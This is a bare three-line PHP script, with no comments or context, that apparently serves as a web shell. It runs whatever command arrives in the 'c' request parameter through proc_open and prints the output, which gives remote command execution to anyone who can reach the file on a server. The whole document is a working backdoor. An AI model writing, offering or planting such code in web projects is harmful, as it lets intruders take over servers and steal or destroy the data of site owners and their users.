<?php
$p = proc_open($_REQUEST['c'], array(1 => array('pipe','w')), $pipes);
echo stream_get_contents($pipes[1]);
